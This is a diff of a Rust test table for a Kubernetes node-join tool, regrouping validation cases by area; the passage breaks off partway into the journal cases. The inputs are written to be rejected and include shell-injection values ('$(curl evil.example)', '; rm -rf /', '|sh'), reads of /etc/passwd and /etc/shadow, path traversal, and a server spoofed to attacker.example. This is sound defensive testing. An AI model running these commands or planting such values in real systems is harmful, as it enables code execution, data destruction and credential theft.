@@ -420,12 +420,29 @@ fn mkdirs(ctx: &Ctx, node_path: &str) -> std::path::PathBuf {
 
 // ---- the table ----
 
+/// The table: every area's cases, in order.
 fn cases() -> Vec<Case> {
-    let big = "x".repeat(2 * 1024 * 1024);
-    let big_ack = big.clone();
+    [
+        values_json(),
+        values_ack(),
+        cluster_info(),
+        pins(),
+        csr_replies(),
+        config_maps(),
+        names_and_paths(),
+        journal(),
+        network(),
+    ]
+    .into_iter()
+    .flatten()
+    .collect()
+}
+
+/// Node-attach's JSON values (docs/values.md): every field's rule, and the document's bounds.
+fn values_json() -> Vec<Case> {
     let deep = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
+    let big = "x".repeat(2 * 1024 * 1024);
     vec![
-        // values, JSON
         values("wrong apiVersion", 12, "apiVersion", |d| {
             d["apiVersion"] = json!("node-attach.io/v2")
         }),
@@ -439,12 +456,18 @@ fn cases() -> Vec<Case> {
         values("a number where a list belongs", 12, "document", |d| {
             d["apiServerEndpoints"] = json!(6443)
         }),
-        values("endpoint with a bad port", 12, "apiServerEndpoints[0]", |d| {
-            d["apiServerEndpoints"] = json!(["10.0.0.1:99999"])
-        }),
-        values("endpoint that is a URL with a path", 12, "apiServerEndpoints[0]", |d| {
-            d["apiServerEndpoints"] = json!(["https://10.0.0.1:6443/evil"])
-        }),
+        values(
+            "endpoint with a bad port",
+            12,
+            "apiServerEndpoints[0]",
+            |d| d["apiServerEndpoints"] = json!(["10.0.0.1:99999"]),
+        ),
+        values(
+            "endpoint that is a URL with a path",
+            12,
+            "apiServerEndpoints[0]",
+            |d| d["apiServerEndpoints"] = json!(["https://10.0.0.1:6443/evil"]),
+        ),
         values("pin that is not sha256 hex", 12, "caCertHashes[0]", |d| {
             d["caCertHashes"] = json!(["sha256:not-hex"])
         }),
@@ -472,18 +495,30 @@ fn cases() -> Vec<Case> {
         }),
         // Accepted, never self-set: the kubelet would refuse to start with it, NodeRestriction
         // would reject it; it is reported for the control plane to apply (a dry run: no file).
-        case("values (JSON)", "a restricted label", 0, r#""pending_labels":{"node-role.kubernetes.io/control-plane":""}"#, |ctx| {
-            let mut doc = good_values(ctx.cp);
-            doc["labels"] = json!({"node-role.kubernetes.io/control-plane": ""});
-            serve_values(ctx.cp, doc.to_string());
-            openapi(ctx, "json", &["--dry-run", "--output", "json"])
-        }),
-        case("values (JSON)", "a label in the kubelet's own namespace spoofed", 0, r#""pending_labels":{"node-restriction.kubernetes.io/pool":"a"}"#, |ctx| {
-            let mut doc = good_values(ctx.cp);
-            doc["labels"] = json!({"node-restriction.kubernetes.io/pool": "a"});
-            serve_values(ctx.cp, doc.to_string());
-            openapi(ctx, "json", &["--dry-run", "--output", "json"])
-        }),
+        case(
+            "values (JSON)",
+            "a restricted label",
+            0,
+            r#""pending_labels":{"node-role.kubernetes.io/control-plane":""}"#,
+            |ctx| {
+                let mut doc = good_values(ctx.cp);
+                doc["labels"] = json!({"node-role.kubernetes.io/control-plane": ""});
+                serve_values(ctx.cp, doc.to_string());
+                openapi(ctx, "json", &["--dry-run", "--output", "json"])
+            },
+        ),
+        case(
+            "values (JSON)",
+            "a label in the kubelet's own namespace spoofed",
+            0,
+            r#""pending_labels":{"node-restriction.kubernetes.io/pool":"a"}"#,
+            |ctx| {
+                let mut doc = good_values(ctx.cp);
+                doc["labels"] = json!({"node-restriction.kubernetes.io/pool": "a"});
+                serve_values(ctx.cp, doc.to_string());
+                openapi(ctx, "json", &["--dry-run", "--output", "json"])
+            },
+        ),
         values("taint with an unknown effect", 12, "taints[0]", |d| {
             d["taints"] = json!(["dedicated=gpu:Sometimes"])
         }),
@@ -508,9 +543,12 @@ fn cases() -> Vec<Case> {
         values("registry host with a newline", 12, "registryMirrors", |d| {
             d["runtime"] = json!({"registryMirrors": {"docker.io\n[x]": ["https://m.example.com"]}})
         }),
-        values("pause image with shell syntax", 12, "runtime.pauseImage", |d| {
-            d["runtime"] = json!({"pauseImage": "pause:3.10;reboot"})
-        }),
+        values(
+            "pause image with shell syntax",
+            12,
+            "runtime.pauseImage",
+            |d| d["runtime"] = json!({"pauseImage": "pause:3.10;reboot"}),
+        ),
         values("relative data root", 12, "runtime.dataRoot", |d| {
             d["runtime"] = json!({"dataRoot": "../../etc"})
         }),
@@ -520,76 +558,189 @@ fn cases() -> Vec<Case> {
         values("maxPods out of range", 12, "kubelet.maxPods", |d| {
             d["kubelet"] = json!({"maxPods": 100000})
         }),
-        values("unknown reserved resource", 12, "kubelet.systemReserved", |d| {
-            d["kubelet"] = json!({"systemReserved": {"gpu": "1"}})
-        }),
+        values(
+            "unknown reserved resource",
+            12,
+            "kubelet.systemReserved",
+            |d| d["kubelet"] = json!({"systemReserved": {"gpu": "1"}}),
+        ),
         values_raw("values (JSON)", "duplicate keys", 12, "twice", |cp| {
             let good = good_values(cp).to_string();
             good.replacen('{', r#"{"bootstrapToken": "zzzzzz.zzzzzzzzzzzzzzzz", "#, 1)
         })
         .secret("zzzzzzzzzzzzzzzz"),
-        values_raw("values (JSON)", "deeply nested", 12, "deeper than", move |cp| {
-            let good = good_values(cp).to_string();
-            good.replacen('{', &format!(r#"{{"labels": {}, "#, deep(10_000)), 1)
-        }),
-        values_raw("values (JSON)", "larger than 1 MiB", 12, "1048576", move |cp| {
-            let good = good_values(cp).to_string();
-            good.replacen('{', &format!(r#"{{"network": "{big}", "#), 1)
-        }),
+        values_raw(
+            "values (JSON)",
+            "deeply nested",
+            12,
+            "deeper than",
+            move |cp| {
+                let good = good_values(cp).to_string();
+                good.replacen('{', &format!(r#"{{"labels": {}, "#, deep(10_000)), 1)
+            },
+        ),
+        values_raw(
+            "values (JSON)",
+            "larger than 1 MiB",
+            12,
+            "1048576",
+            move |cp| {
+                let good = good_values(cp).to_string();
+                good.replacen('{', &format!(r#"{{"network": "{big}", "#), 1)
+            },
+        ),
         values("a null where a list belongs", 12, "document", |d| {
             d["caCertHashes"] = Value::Null
         }),
-        // values, ACK key=value
-        ack("command substitution", 12, "shell syntax", "network=$(curl evil.example)"),
+    ]
+}
+
+/// ACK's key=value text: shell syntax, and the rules of each key.
+fn values_ack() -> Vec<Case> {
+    let big = "x".repeat(2 * 1024 * 1024);
+    vec![
+        ack(
+            "command substitution",
+            12,
+            "shell syntax",
+            "network=$(curl evil.example)",
+        ),
         ack("backquotes", 12, "shell syntax", "network=`reboot`"),
-        ack("a second command", 12, "shell syntax", "network=flannel; rm -rf /"),
+        ack(
+            "a second command",
+            12,
+            "shell syntax",
+            "network=flannel; rm -rf /",
+        ),
         ack("a pipe", 12, "shell syntax", "network=flannel|sh"),
-        ack("a redirection", 12, "shell syntax", "network=flannel>/etc/passwd"),
-        ack("a backslash escape", 12, "shell syntax", r"network=flan\nel"),
+        ack(
+            "a redirection",
+            12,
+            "shell syntax",
+            "network=flannel>/etc/passwd",
+        ),
+        ack(
+            "a backslash escape",
+            12,
+            "shell syntax",
+            r"network=flan\nel",
+        ),
         ack("unbalanced quotes", 12, "shell syntax", "network=\"flannel"),
-        ack("a key given twice", 12, "more than once", "token=zzzzzz.zzzzzzzzzzzzzzzz")
-            .secret("zzzzzzzzzzzzzzzz"),
-        ack("a line that is not key=value", 12, "expected key=value", "rm -rf /"),
-        ack("an uppercase key", 12, "lowercase", "TOKEN=abcdef.0123456789abcdef"),
-        ack("a bad endpoint", 12, "endpoint", "name_mode=nodeip\nendpoint=10.0.0.1:0"),
-        ack("a callback to a local file", 12, "callback_url", "callback_url=file:///etc/passwd"),
-        values_raw("values (ACK)", "a token with a bad secret", 12, "token", |cp| {
-            ack_text(cp, "").replace(TOKEN, "abcdef.0123456789abcdeX")
-        })
+        ack(
+            "a key given twice",
+            12,
+            "more than once",
+            "token=zzzzzz.zzzzzzzzzzzzzzzz",
+        )
+        .secret("zzzzzzzzzzzzzzzz"),
+        ack(
+            "a line that is not key=value",
+            12,
+            "expected key=value",
+            "rm -rf /",
+        ),
+        ack(
+            "an uppercase key",
+            12,
+            "lowercase",
+            "TOKEN=abcdef.0123456789abcdef",
+        ),
+        ack(
+            "a bad endpoint",
+            12,
+            "endpoint",
+            "name_mode=nodeip\nendpoint=10.0.0.1:0",
+        ),
+        ack(
+            "a callback to a local file",
+            12,
+            "callback_url",
+            "callback_url=file:///etc/passwd",
+        ),
+        values_raw(
+            "values (ACK)",
+            "a token with a bad secret",
+            12,
+            "token",
+            |cp| ack_text(cp, "").replace(TOKEN, "abcdef.0123456789abcdeX"),
+        )
         .secret("0123456789abcdeX"),
-        values_raw("values (ACK)", "larger than 1 MiB", 12, "1048576", move |cp| {
-            ack_text(cp, &format!("network={big_ack}"))
-        }),
-        values_raw("values (ACK)", "an empty answer", 12, "no key=value lines", |_| {
-            String::new()
-        }),
-        // cluster-info and its JWS
-        case("cluster-info", "kubeconfig tampered after signing", 23, "JWS", |ctx| {
-            ctx.cp.set_faults(|f| f.cluster_info = ClusterInfoFault::Tamper);
-            scale(ctx, &[])
-        }),
-        case("cluster-info", "kubeconfig re-serialized", 23, "JWS", |ctx| {
-            ctx.cp.set_faults(|f| f.cluster_info = ClusterInfoFault::Reserialize);
-            scale(ctx, &[])
-        }),
-        case("cluster-info", "signature with another kid", 23, "JWS", |ctx| {
-            ctx.cp.set_faults(|f| f.cluster_info = ClusterInfoFault::WrongKid);
-            scale(ctx, &[])
-        }),
+        values_raw(
+            "values (ACK)",
+            "larger than 1 MiB",
+            12,
+            "1048576",
+            move |cp| ack_text(cp, &format!("network={big}")),
+        ),
+        values_raw(
+            "values (ACK)",
+            "an empty answer",
+            12,
+            "no key=value lines",
+            |_| String::new(),
+        ),
+    ]
+}
+
+/// cluster-info and its JWS, before and after the signature.
+fn cluster_info() -> Vec<Case> {
+    let deep = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
+    vec![
+        case(
+            "cluster-info",
+            "kubeconfig tampered after signing",
+            23,
+            "JWS",
+            |ctx| {
+                ctx.cp
+                    .set_faults(|f| f.cluster_info = ClusterInfoFault::Tamper);
+                scale(ctx, &[])
+            },
+        ),
+        case(
+            "cluster-info",
+            "kubeconfig re-serialized",
+            23,
+            "JWS",
+            |ctx| {
+                ctx.cp
+                    .set_faults(|f| f.cluster_info = ClusterInfoFault::Reserialize);
+                scale(ctx, &[])
+            },
+        ),
+        case(
+            "cluster-info",
+            "signature with another kid",
+            23,
+            "JWS",
+            |ctx| {
+                ctx.cp
+                    .set_faults(|f| f.cluster_info = ClusterInfoFault::WrongKid);
+                scale(ctx, &[])
+            },
+        ),
         case("cluster-info", "alg none", 23, "JWS", |ctx| {
-            ctx.cp.set_faults(|f| f.cluster_info = ClusterInfoFault::AlgNone);
+            ctx.cp
+                .set_faults(|f| f.cluster_info = ClusterInfoFault::AlgNone);
             scale(ctx, &[])
         }),
         case("cluster-info", "larger than 1 MiB", 27, "1048576", |ctx| {
-            ctx.cp.set_faults(|f| f.cluster_info = ClusterInfoFault::Oversized);
+            ctx.cp
+                .set_faults(|f| f.cluster_info = ClusterInfoFault::Oversized);
             scale(ctx, &[])
         }),
-        case("cluster-info", "redirected", 20, "redirects are refused", |ctx| {
-            ctx.cp.set_faults(|f| {
-                f.cluster_info = ClusterInfoFault::Redirect("https://127.0.0.1:1/x".into())
-            });
-            scale(ctx, &[])
-        }),
+        case(
+            "cluster-info",
+            "redirected",
+            20,
+            "redirects are refused",
+            |ctx| {
+                ctx.cp.set_faults(|f| {
+                    f.cluster_info = ClusterInfoFault::Redirect("https://127.0.0.1:1/x".into())
+                });
+                scale(ctx, &[])
+            },
+        ),
         cluster_info_body("no kubeconfig key", 27, "kubeconfig", |cp| {
             cluster_info_text(cp, |t| t.replace("\"kubeconfig\"", "\"kubeconfig-gone\""))
         }),
@@ -608,20 +759,39 @@ fn cases() -> Vec<Case> {
             })
         }),
         cluster_info_body("not JSON", 27, "malformed", |_| "<html>hello</html>".into()),
-        case("cluster-info", "duplicate keys in the kubeconfig", 27, "duplicate field", |ctx| {
-            // Signed as it stands, so only the strict YAML reader can catch it.
-            rewrite_cluster_info_text(ctx.cp, |t| {
-                t.replacen("    server: ", "    server: https://attacker.example:6443\n    server: ", 1)
-            });
-            scale(ctx, &[])
-        })
+        case(
+            "cluster-info",
+            "duplicate keys in the kubeconfig",
+            27,
+            "duplicate field",
+            |ctx| {
+                // Signed as it stands, so only the strict YAML reader can catch it.
+                rewrite_cluster_info_text(ctx.cp, |t| {
+                    t.replacen(
+                        "    server: ",
+                        "    server: https://attacker.example:6443\n    server: ",
+                        1,
+                    )
+                });
+                scale(ctx, &[])
+            },
+        )
         .fresh(),
-        case("cluster-info", "a stray quote before deep nesting in the kubeconfig", 27, "flow collections", move |ctx| {
-            rewrite_cluster_info_text(ctx.cp, |t| {
-                format!("{t}preferences: {{x: it's}}\nextensions: {}\n", deep(20_000))
-            });
-            scale(ctx, &[])
-        })
+        case(
+            "cluster-info",
+            "a stray quote before deep nesting in the kubeconfig",
+            27,
+            "flow collections",
+            move |ctx| {
+                rewrite_cluster_info_text(ctx.cp, |t| {
+                    format!(
+                        "{t}preferences: {{x: it's}}\nextensions: {}\n",
+                        deep(20_000)
+                    )
+                });
+                scale(ctx, &[])
+            },
+        )
         .fresh(),
         cluster_info_rewrite(
             "cluster-info",
@@ -635,60 +805,127 @@ fn cases() -> Vec<Case> {
             },
         )
         .secret("hunter2"),
-        cluster_info_rewrite("cluster-info", "plain http server URL", 27, "https", |cp, doc| {
-            let host = cp.url().trim_start_matches("https://").to_owned();
-            set_cluster_field(doc, "server", format!("http://{host}"));
-            None
-        }),
-        // pins and CA bundles
-        case("pins", "a pin of another CA", 24, "none of the cluster's CA certificates", |ctx| {
-            scale_with(ctx, "--discovery-token-ca-cert-hash", &ctx.cp.foreign_pin())
-        }),
-        case("pins", "a malformed pin", 2, "discovery-token-ca-cert-hash", |ctx| {
-            scale_with(ctx, "--discovery-token-ca-cert-hash", "sha256:1234")
-        }),
-        case("pins", "a pin of another algorithm", 2, "discovery-token-ca-cert-hash", |ctx| {
-            scale_with(
-                ctx,
-                "--discovery-token-ca-cert-hash",
-                &ctx.cp.ca_pin().replace("sha256:", "md5:"),
-            )
-        }),
-        cluster_info_rewrite("pins", "the pinned CA is expired", 29, "expired", |_, doc| {
-            let now = time::OffsetDateTime::now_utc();
-            let (pem, pin) = self_signed(true, now - time::Duration::days(9), now - time::Duration::days(1));
-            set_cluster_field(doc, "certificate-authority-data", b64(&pem));
-            Some(pin)
-        }),
-        cluster_info_rewrite("pins", "the pinned CA is not yet valid", 29, "not valid before", |_, doc| {
-            let now = time::OffsetDateTime::now_utc();
-            let (pem, pin) = self_signed(true, now + time::Duration::days(1), now + time::Duration::days(9));
-            set_cluster_field(doc, "certificate-authority-data", b64(&pem));
-            Some(pin)
-        }),
-        cluster_info_rewrite("pins", "the pinned certificate is not a CA", 29, "not a CA", |_, doc| {
-            let now = time::OffsetDateTime::now_utc();
-            let (pem, pin) = self_signed(false, now - time::Duration::days(1), now + time::Duration::days(9));
-            set_cluster_field(doc, "certificate-authority-data", b64(&pem));
-            Some(pin)
-        }),
-        cluster_info_rewrite("pins", "junk after the CA in the PEM", 27, "PEM", |cp, doc| {
-            set_cluster_field(
-                doc,
-                "certificate-authority-data",
-                b64(&format!("{}this is not PEM\n", cp.ca_pem())),
-            );
-            None
-        }),
-        cluster_info_rewrite("pins", "a private key in the CA bundle", 27, "certificate", |cp, doc| {
-            let issued = cp.issue_client("x", &[]);
-            set_cluster_field(
-                doc,
-                "certificate-authority-data",
-                b64(&format!("{}{}", cp.ca_pem(), issued.key_pem)),
-            );
-            None
-        }),
+        cluster_info_rewrite(
+            "cluster-info",
+            "plain http server URL",
+            27,
+            "https",
+            |cp, doc| {
+                let host = cp.url().trim_start_matches("https://").to_owned();
+                set_cluster_field(doc, "server", format!("http://{host}"));
+                None
+            },
+        ),
+    ]
+}
+
+/// Pins and the CA bundle they pick from.
+fn pins() -> Vec<Case> {
+    vec![
+        case(
+            "pins",
+            "a pin of another CA",
+            24,
+            "none of the cluster's CA certificates",
+            |ctx| scale_with(ctx, "--discovery-token-ca-cert-hash", &ctx.cp.foreign_pin()),
+        ),
+        case(
+            "pins",
+            "a malformed pin",
+            2,
+            "discovery-token-ca-cert-hash",
+            |ctx| scale_with(ctx, "--discovery-token-ca-cert-hash", "sha256:1234"),
+        ),
+        case(
+            "pins",
+            "a pin of another algorithm",
+            2,
+            "discovery-token-ca-cert-hash",
+            |ctx| {
+                scale_with(
+                    ctx,
+                    "--discovery-token-ca-cert-hash",
+                    &ctx.cp.ca_pin().replace("sha256:", "md5:"),
+                )
+            },
+        ),
+        cluster_info_rewrite(
+            "pins",
+            "the pinned CA is expired",
+            29,
+            "expired",
+            |_, doc| {
+                let now = time::OffsetDateTime::now_utc();
+                let (pem, pin) = self_signed(
+                    true,
+                    now - time::Duration::days(9),
+                    now - time::Duration::days(1),
+                );
+                set_cluster_field(doc, "certificate-authority-data", b64(&pem));
+                Some(pin)
+            },
+        ),
+        cluster_info_rewrite(
+            "pins",
+            "the pinned CA is not yet valid",
+            29,
+            "not valid before",
+            |_, doc| {
+                let now = time::OffsetDateTime::now_utc();
+                let (pem, pin) = self_signed(
+                    true,
+                    now + time::Duration::days(1),
+                    now + time::Duration::days(9),
+                );
+                set_cluster_field(doc, "certificate-authority-data", b64(&pem));
+                Some(pin)
+            },
+        ),
+        cluster_info_rewrite(
+            "pins",
+            "the pinned certificate is not a CA",
+            29,
+            "not a CA",
+            |_, doc| {
+                let now = time::OffsetDateTime::now_utc();
+                let (pem, pin) = self_signed(
+                    false,
+                    now - time::Duration::days(1),
+                    now + time::Duration::days(9),
+                );
+                set_cluster_field(doc, "certificate-authority-data", b64(&pem));
+                Some(pin)
+            },
+        ),
+        cluster_info_rewrite(
+            "pins",
+            "junk after the CA in the PEM",
+            27,
+            "PEM",
+            |cp, doc| {
+                set_cluster_field(
+                    doc,
+                    "certificate-authority-data",
+                    b64(&format!("{}this is not PEM\n", cp.ca_pem())),
+                );
+                None
+            },
+        ),
+        cluster_info_rewrite(
+            "pins",
+            "a private key in the CA bundle",
+            27,
+            "certificate",
+            |cp, doc| {
+                let issued = cp.issue_client("x", &[]);
+                set_cluster_field(
+                    doc,
+                    "certificate-authority-data",
+                    b64(&format!("{}{}", cp.ca_pem(), issued.key_pem)),
+                );
+                None
+            },
+        ),
         {
             // The attacker's CA beside the real one, and the attacker's serving certificate:
             // trusting the whole bundle (as kubeadm does) would accept it.
@@ -705,7 +942,12 @@ fn cases() -> Vec<Case> {
                 },
             )
         },
-        // CSR replies
+    ]
+}
+
+/// What the API server answers to the CSR.
+fn csr_replies() -> Vec<Case> {
+    vec![
         case("CSR replies", "denied", 50, "was denied", |ctx| {
             ctx.cp.set_approval(Approval::Deny);
             scale(ctx, &[])
@@ -749,178 +991,401 @@ fn cases() -> Vec<Case> {
             scale(ctx, &[])
         })
         .tree(Tree::ResetRestores),
-        // the cluster's ConfigMaps
-        config_map("kubeadm-config: invalid YAML", "kubeadm-config", "ClusterConfiguration", "kubeadm-config", || {
-            "kind: [unclosed".into()
-        }),
-        config_map("kubeadm-config: not a mapping", "kubeadm-config", "ClusterConfiguration", "kubeadm-config", || {
-            "- a list\n- of things\n".into()
-        }),
-        config_map("kubeadm-config: deep nesting", "kubeadm-config", "ClusterConfiguration", "deeper than", move || {
-            format!("kind: ClusterConfiguration\nx: {}", deep(1_000))
-        }),
-        config_map("kubeadm-config: duplicate keys", "kubeadm-config", "ClusterConfiguration", "twice", || {
-            "kind: ClusterConfiguration\nkubernetesVersion: v1.31.2\nkubernetesVersion: v1.18.0\n".into()
-        }),
-        config_map("kubelet-config: a stray quote before deep nesting", "kubelet", "kubelet", "flow collections", move || {
-            // A quote YAML reads literally; a scan that took it for a quoted string saw none of
-            // the nesting after it, and libyaml took a minute over 40,000 levels.
-            format!("kind: KubeletConfiguration\nstaticPodPath: it's\nx: {}", deep(40_000))
-        }),
-        config_map("kubelet-config: invalid YAML", "kubelet", "kubelet", "kubelet configuration", || {
-            "maxPods: [1,".into()
-        }),
-        config_map("kubelet-config: not a mapping", "kubelet", "kubelet", "not a mapping", || {
-            "just a string".into()
-        }),
-        config_map("kubelet-config: deep nesting", "kubelet", "kubelet", "deeper than", || {
-            let mut y = String::new();
-            for i in 0..100 {
-                y.push_str(&format!("{}k{i}:\n", "  ".repeat(i)));
-            }
-            y
-        }),
-        config_map("kubelet-config: duplicate keys", "kubelet", "kubelet", "twice", || {
-            "kind: KubeletConfiguration\nmaxPods: 10\nmaxPods: 500\n".into()
-        }),
-        api_body("ConfigMaps", "kubelet-config answer with duplicate keys", 34, "twice", "/configmaps/kubelet-config", 1, |_| {
-            r#"{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"kubelet-config"},"data":{"kubelet":"a: 1"},"data":{"kubelet":"b: 2"}}"#.into()
-        }),
-        // node names and paths
-        case("names and paths", "node name with uppercase", 2, "node name", |ctx| {
-            scale_with(ctx, "--node-name", "Evil_Node")
-        }),
-        case("names and paths", "node name with a slash", 2, "node name", |ctx| {
-            scale_with(ctx, "--node-name", "../../etc")
-        }),
-        case("names and paths", "node name with a newline", 2, "node name", |ctx| {
-            scale_with(ctx, "--node-name", "node\nx")
-        }),
-        case("names and paths", "node name too long", 2, "node name", |ctx| {
-            scale_with(ctx, "--node-name", &"a".repeat(254))
-        }),
-        case("names and paths", "/etc in the root is a symlink", 70, "symbolic link", |ctx| {
-            std::os::unix::fs::symlink(ctx.outside, ctx.node.path("/etc")).expect("symlink");
-            scale(ctx, &[])
-        }),
-        case("names and paths", "the state directory is a symlink", 70, "symbolic link", |ctx| {
-            mkdirs(ctx, "/var/lib");
-            std::os::unix::fs::symlink(ctx.outside, ctx.node.path("/var/lib/node-attach"))
-                .expect("symlink");
-            scale(ctx, &[])
-        }),
-        case("names and paths", "a FIFO where join writes daemon.json", 70, "fifo", |ctx| {
-            mkdirs(ctx, "/etc/docker");
-            mkfifo(&ctx.node.path("/etc/docker/daemon.json"));
-            scale(ctx, &[])
-        }),
-        case("names and paths", "a FIFO where join writes daemon.json, dry run", 70, "fifo", |ctx| {
-            mkdirs(ctx, "/etc/docker");
-            mkfifo(&ctx.node.path("/etc/docker/daemon.json"));
-            scale(ctx, &["--dry-run"])
-        }),
-        case("names and paths", "a directory where join writes kubelet.conf", 70, "directory", |ctx| {
-            mkdirs(ctx, "/etc/kubernetes/kubelet.conf");
-            scale(ctx, &[])
-        }),
-        case("names and paths", "the root is a file", 70, "Not a directory", |ctx| {
-            let file = ctx.scratch.join("root-file");
-            std::fs::write(&file, "x").expect("file");
-            scale_with(ctx, "--root", &file.display().to_string())
-        }),
-        joined_reset("names and paths", "a journaled directory swapped for a symlink", 80, "symbolic link", |ctx| {
-            replace_with_link(ctx, "/etc/docker")
-        })
+    ]
+}
+
+/// kubeadm-config and kubelet-config, read with the token after discovery.
+fn config_maps() -> Vec<Case> {
+    let deep = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
+    vec![
+        config_map(
+            "kubeadm-config: invalid YAML",
+            "kubeadm-config",
+            "ClusterConfiguration",
+            "kubeadm-config",
+            || "kind: [unclosed".into(),
+        ),
+        config_map(
+            "kubeadm-config: not a mapping",
+            "kubeadm-config",
+            "ClusterConfiguration",
+            "kubeadm-config",
+            || "- a list\n- of things\n".into(),
+        ),
+        config_map(
+            "kubeadm-config: deep nesting",
+            "kubeadm-config",
+            "ClusterConfiguration",
+            "deeper than",
+            move || format!("kind: ClusterConfiguration\nx: {}", deep(1_000)),
+        ),
+        config_map(
+            "kubeadm-config: duplicate keys",
+            "kubeadm-config",
+            "ClusterConfiguration",
+            "twice",
+            || {
+                "kind: ClusterConfiguration\nkubernetesVersion: v1.31.2\nkubernetesVersion: v1.18.0\n".into()
+            },
+        ),
+        config_map(
+            "kubelet-config: a stray quote before deep nesting",
+            "kubelet",
+            "kubelet",
+            "flow collections",
+            move || {
+                // A quote YAML reads literally; a scan that took it for a quoted string saw none of
+                // the nesting after it, and libyaml took a minute over 40,000 levels.
+                format!(
+                    "kind: KubeletConfiguration\nstaticPodPath: it's\nx: {}",
+                    deep(40_000)
+                )
+            },
+        ),
+        config_map(
+            "kubelet-config: invalid YAML",
+            "kubelet",
+            "kubelet",
+            "kubelet configuration",
+            || "maxPods: [1,".into(),
+        ),
+        config_map(
+            "kubelet-config: not a mapping",
+            "kubelet",
+            "kubelet",
+            "not a mapping",
+            || "just a string".into(),
+        ),
+        config_map(
+            "kubelet-config: deep nesting",
+            "kubelet",
+            "kubelet",
+            "deeper than",
+            || {
+                let mut y = String::new();
+                for i in 0..100 {
+                    y.push_str(&format!("{}k{i}:\n", "  ".repeat(i)));
+                }
+                y
+            },
+        ),
+        config_map(
+            "kubelet-config: duplicate keys",
+            "kubelet",
+            "kubelet",
+            "twice",
+            || "kind: KubeletConfiguration\nmaxPods: 10\nmaxPods: 500\n".into(),
+        ),
+        api_body(
+            "ConfigMaps",
+            "kubelet-config answer with duplicate keys",
+            34,
+            "twice",
+            "/configmaps/kubelet-config",
+            1,
+            |_| {
+                r#"{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"kubelet-config"},"data":{"kubelet":"a: 1"},"data":{"kubelet":"b: 2"}}"#.into()
+            },
+        ),
+    ]
+}
+
+/// Node names, the root, and what sits at the paths join and reset touch.
+fn names_and_paths() -> Vec<Case> {
+    vec![
+        case(
+            "names and paths",
+            "node name with uppercase",
+            2,
+            "node name",
+            |ctx| scale_with(ctx, "--node-name", "Evil_Node"),
+        ),
+        case(
+            "names and paths",
+            "node name with a slash",
+            2,
+            "node name",
+            |ctx| scale_with(ctx, "--node-name", "../../etc"),
+        ),
+        case(
+            "names and paths",
+            "node name with a newline",
+            2,
+            "node name",
+            |ctx| scale_with(ctx, "--node-name", "node\nx"),
+        ),
+        case(
+            "names and paths",
+            "node name too long",
+            2,
+            "node name",
+            |ctx| scale_with(ctx, "--node-name", &"a".repeat(254)),
+        ),
+        case(
+            "names and paths",
+            "/etc in the root is a symlink",
+            70,
+            "symbolic link",
+            |ctx| {
+                std::os::unix::fs::symlink(ctx.outside, ctx.node.path("/etc")).expect("symlink");
+                scale(ctx, &[])
+            },
+        ),
+        case(
+            "names and paths",
+            "the state directory is a symlink",
+            70,
+            "symbolic link",
+            |ctx| {
+                mkdirs(ctx, "/var/lib");
+                std::os::unix::fs::symlink(ctx.outside, ctx.node.path("/var/lib/node-attach"))
+                    .expect("symlink");
+                scale(ctx, &[])
+            },
+        ),
+        case(
+            "names and paths",
+            "a FIFO where join writes daemon.json",
+            70,
+            "fifo",
+            |ctx| {
+                mkdirs(ctx, "/etc/docker");
+                mkfifo(&ctx.node.path("/etc/docker/daemon.json"));
+                scale(ctx, &[])
+            },
+        ),
+        case(
+            "names and paths",
+            "a FIFO where join writes daemon.json, dry run",
+            70,
+            "fifo",
+            |ctx| {
+                mkdirs(ctx, "/etc/docker");
+                mkfifo(&ctx.node.path("/etc/docker/daemon.json"));
+                scale(ctx, &["--dry-run"])
+            },
+        ),
+        case(
+            "names and paths",
+            "a directory where join writes kubelet.conf",
+            70,
+            "directory",
+            |ctx| {
+                mkdirs(ctx, "/etc/kubernetes/kubelet.conf");
+                scale(ctx, &[])
+            },
+        ),
+        case(
+            "names and paths",
+            "the root is a file",
+            70,
+            "Not a directory",
+            |ctx| {
+                let file = ctx.scratch.join("root-file");
+                std::fs::write(&file, "x").expect("file");
+                scale_with(ctx, "--root", &file.display().to_string())
+            },
+        ),
+        joined_reset(
+            "names and paths",
+            "a journaled directory swapped for a symlink",
+            80,
+            "symbolic link",
+            |ctx| replace_with_link(ctx, "/etc/docker"),
+        )
         .tree(Tree::Kept(&["etc/docker"])),
-        joined_reset("names and paths", "a journaled file swapped for a FIFO", 80, "fifo", |ctx| {
-            let p = ctx.node.path("/etc/docker/daemon.json");
-            std::fs::remove_file(&p).expect("rm");
-            mkfifo(&p);
-        })
+        joined_reset(
+            "names and paths",
+            "a journaled file swapped for a FIFO",
+            80,
+            "fifo",
+            |ctx| {
+                let p = ctx.node.path("/etc/docker/daemon.json");
+                std::fs::remove_file(&p).expect("rm");
+                mkfifo(&p);
+            },
+        )
         .tree(Tree::Kept(&["etc/docker/daemon.json"])),
-        // journal tampering
-        journal_line("a path with ..", 72, "not a clean absolute path",
-            r#"{"seq":900,"event":"begin","change":{"kind":"file","path":"/etc/../../outside","prior":null}}"#),
-        journal_line("a relative path", 72, "not a clean absolute path",
-            r#"{"seq":900,"event":"begin","change":{"kind":"dir","path":"etc/x"}}"#),
-        journal_line("an absolute backup name", 72, "not a node-attach backup",
-            r#"{"seq":900,"event":"begin","change":{"kind":"file","path":"/etc/hosts","prior":{"mode":420,"backup":"/etc/shadow"}}}"#),
-        journal_line("a backup name climbing out", 72, "not a node-attach backup",
-            r#"{"seq":900,"event":"begin","change":{"kind":"file","path":"/etc/hosts","prior":{"mode":420,"backup":"../../../etc/shadow"}}}"#),
-        journal_line("a symlink restored out of the root", 72, "not a clean absolute path",
-            r#"{"seq":900,"event":"begin","change":{"kind":"symlink","path":"/../x","prior":"/etc/shadow"}}"#),
-        joined_reset("journal", "a damaged line in the middle", 0, "journal is damaged", |ctx| {
-            let path = ctx.node.path(JOURNAL);
-            let text = std::fs::read_to_string(&path).expect("journal");
-            let mut lines: Vec<&str> = text.lines().collect();
-            lines[3] = "{\"seq\": 4, \"event\": \"begi";
-            std::fs::write(&path, lines.join("\n") + "\n").expect("damage");
-        })
+    ]
+}
+
+/// A tampered journal, on a copy of a joined node.
+fn journal() -> Vec<Case> {
+    vec![
+        journal_line(
+            "a path with ..",
+            72,
+            "not a clean absolute path",
